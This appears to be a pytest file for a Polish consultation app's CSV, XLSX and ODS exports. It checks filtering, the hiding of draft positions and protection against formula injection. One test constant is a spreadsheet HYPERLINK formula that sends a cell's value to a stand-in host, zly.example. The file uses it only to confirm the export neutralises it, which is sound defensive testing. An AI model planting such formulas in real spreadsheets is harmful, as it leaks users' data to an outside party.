"""Downloads of the registers of postulates (CSV, XLSX, ODS), read back with csv, openpyxl and odfpy: they
hold what the filtered screen lists, the public one only published data, and no cell runs as a formula."""
from __future__ import annotations

import csv
import io
import re

import pytest
from openpyxl import load_workbook

from consult.core.actors import SYSTEM
from consult.core.operations import transaction
from consult.extensions import db
from consult.postulates.models import Position
from consult.postulates.operations import assign_postulate, create_postulate, publish_positions, save_position
from tests.conftest import login

HEADER = ["Numer", "Program", "Spotkanie", "Zgłaszający", "Treść postulatu", "Uzasadnienie", "Przepis programu", "Stan",
          "Komórka merytoryczna", "Rodzaj stanowiska", "Treść stanowiska", "Data publikacji"]
FORMULA = '=HYPERLINK("http://zly.example/?x="&A1;"Kliknij")'
SECRET = "Projekt stanowiska jednostki Y – jeszcze nie do wiadomości publicznej"


def _rows(fmt: str, body: bytes) -> list[list[str]]:
    """The file's rows as text (date cells of XLSX and ODS as YYYY-MM-DD), header first."""
    if fmt == "csv":
        assert body.startswith(b"\xef\xbb\xbf"), "CSV must start with the UTF-8 byte order mark for Excel"
        return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    if fmt == "xlsx":
        sheet = load_workbook(io.BytesIO(body)).active
        rows = []
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"cell {cell.coordinate} is a formula: {cell.value!r}"
            rows.append(["" if c.value is None else c.value.date().isoformat() if hasattr(c.value, "date")
                         else str(c.value) for c in row])
        return rows
    from odf import teletype
    from odf.opendocument import load
    from odf.table import Table, TableCell, TableRow
    from odf.text import P

    document = load(io.BytesIO(body))
    rows = []
    for row in document.spreadsheet.getElementsByType(Table)[0].getElementsByType(TableRow):
        cells = []
        for cell in row.getElementsByType(TableCell):
            assert not cell.getAttribute("formula"), "an ODS cell is a formula"
            if cell.getAttribute("valuetype") == "date":
                cells.append(cell.getAttribute("datevalue"))
            else:
                cells.append("\n".join(teletype.extractText(p) for p in cell.getElementsByType(P)))
        rows.append(cells)
    return rows


def _screen_references(client, url: str) -> list[str]:
    page = client.get(url).get_data(as_text=True)
    return re.findall(r'class="ref"><a href="[^"]+">([^<]+)</a>', page)


@pytest.fixture
def exported_world(world):
    """The world, plus a published postulate whose texts start like formulas, and a draft position of unit Y
    on the published postulate B (it must never be public)."""
    with transaction():
        tricky = create_postulate(world.user("ngo_a"), world.programme, content=FORMULA,
                                  justification="+48 12 616 12 34; -10% kosztów; @wszyscy", submit=True)
        assign_postulate(SYSTEM, tricky, world.unit_y)
        save_position(world.user("unit_y"), tricky, category="partially_accepted", text="-Częściowo: „tak”.")
        publish_positions(world.user("unit_y"), [tricky])
        db.session.add(Position(postulate_id=world.p["b_published_x"].id, unit_id=world.unit_y.id,
                                category="explanation", text=SECRET))
    world.p["tricky"] = tricky
    return world


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "ods"])
def test_public_download_holds_what_the_filtered_screen_lists(client, exported_world, fmt):
    w = exported_world
    query = f"?unit={w.unit_x.id}&strona=1"
    listed = _screen_references(client, "/postulaty" + query)
    assert listed == [w.p["b_published_x"].reference]
    page = client.get("/postulaty" + query).get_data(as_text=True)
    assert f'href="/postulaty/eksport.{fmt}?unit={w.unit_x.id}"' in page  # with the filter, without the page

    response = client.get(f"/postulaty/eksport.{fmt}?unit={w.unit_x.id}")
    assert response.status_code == 200
    assert "attachment" in response.headers["Content-Disposition"]
    rows = _rows(fmt, response.data)
    assert rows[0] == HEADER
    assert [r[0] for r in rows[1:]] == listed
    row = dict(zip(HEADER, rows[1]))
    assert row["Treść postulatu"] == "B, opublikowany przez X"
    assert row["Komórka merytoryczna"] == "Wydział Polityki Społecznej, Równości i Zdrowia"
    assert (row["Rodzaj stanowiska"], row["Treść stanowiska"]) == ("nieprzyjęty", "Nie przyjmujemy.")
    # a date cell in XLSX and ODS; CSV has none, so the text the Polish pages show
    assert re.fullmatch(r"\d{2}\.\d{2}\.\d{4}" if fmt == "csv" else r"\d{4}-\d{2}-\d{2}", row["Data publikacji"])
    assert not any(SECRET in cell for r in rows for cell in r)


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "ods"])
def test_public_download_holds_published_data_only_and_no_formulas(client, exported_world, fmt):
    w = exported_world
    rows = _rows(fmt, client.get(f"/postulaty/eksport.{fmt}").data)
    assert sorted(r[0] for r in rows[1:]) == sorted(_screen_references(client, "/postulaty"))
    assert {r[0] for r in rows[1:]} == {w.p["b_published_x"].reference, w.p["tricky"].reference}
    assert not any(SECRET in cell for r in rows for cell in r)
    assert not any("Przyjmujemy." in cell for r in rows for cell in r)  # an answered postulate's draft
    tricky = dict(zip(HEADER, next(r for r in rows if r[0] == w.p["tricky"].reference)))
    assert tricky["Treść postulatu"] == "'" + FORMULA
    assert tricky["Uzasadnienie"] == "'+48 12 616 12 34; -10% kosztów; @wszyscy"
    assert tricky["Treść stanowiska"] == "'-Częściowo: „tak”."
    for cell in (c for r in rows for c in r):
        assert not cell.startswith(("=", "+", "-", "@")), cell


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "ods"])
def test_coordinators_download_holds_every_filed_postulate_filtered_as_on_screen(client, exported_world, fmt):
    w = exported_world
    login(client, w.user("coordinator"))
    listed = _screen_references(client, f"/rejestr?programme={w.programme.id}&submitter=zustricz")
    names = ("a_submitted", "a_assigned_x", "a_answered_x", "tricky")
    assert set(listed) == {w.p[n].reference for n in names}
    filters = f"?programme={w.programme.id}&submitter=zustricz"
    rows = _rows(fmt, client.get(f"/rejestr/eksport.{fmt}{filters}").data)
    assert rows[0] == HEADER
    assert [r[0] for r in rows[1:]] == listed
    answered = dict(zip(HEADER, next(r for r in rows if r[0] == w.p["a_answered_x"].reference)))
    assert answered["Stan"] == "ze stanowiskiem"
    assert answered["Rodzaj stanowiska"] == "przyjęty (projekt, nieopublikowane)"
    assert answered["Treść stanowiska"] == "Przyjmujemy." and answered["Data publikacji"] == ""
    everything = _rows(fmt, client.get(f"/rejestr/eksport.{fmt}").data)
    published = dict(zip(HEADER, next(r for r in everything if r[0] == w.p["b_published_x"].reference)))
    assert SECRET in published["Treść stanowiska"]  # the coordinator sees unit Y's draft, marked
    assert "WDKKO: wyjaśnienie (projekt, nieopublikowane)" in published["Rodzaj stanowiska"]


def test_csv_quotes_and_keeps_polish_letters(client, exported_world):
    body = client.get("/postulaty/eksport.csv").data
    text = body.decode("utf-8-sig")
    assert "Treść postulatu" in text and "Zgłaszający" in text
    assert '"\'=HYPERLINK(""http://zly.example/?x=""&A1;""Kliknij"")"' in text  # quotes doubled, cell quoted


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "ods"])
def test_an_english_download_writes_dates_in_english_text_and_keeps_date_cells(client, exported_world, fmt):
    from babel.dates import format_date

    from tests.test_i18n import _published_meeting_postulate

    w = exported_world
    postulate = _published_meeting_postulate(w)
    client.post("/jezyk/en", data={})
    rows = _rows(fmt, client.get(f"/postulaty/eksport.{fmt}").data)
    row = dict(zip(rows[0], next(r for r in rows if r[0] == postulate.reference)))
    day = format_date(w.meeting.date, "d MMM yyyy", locale="en")
    assert row["Meeting"] == f"Spotkanie branżowe ({day}), No. 1"
    published = db.session.get(type(postulate), postulate.id).positions[0].published_at
    from consult.core.types import to_warsaw

    published_on = to_warsaw(published).date()
    if fmt == "csv":  # text: as the English pages write it
        assert row["Publication date"] == format_date(published_on, "d MMM yyyy", locale="en")
    else:  # a real date cell, which the spreadsheet shows in its own way
        assert row["Publication date"] == published_on.isoformat()
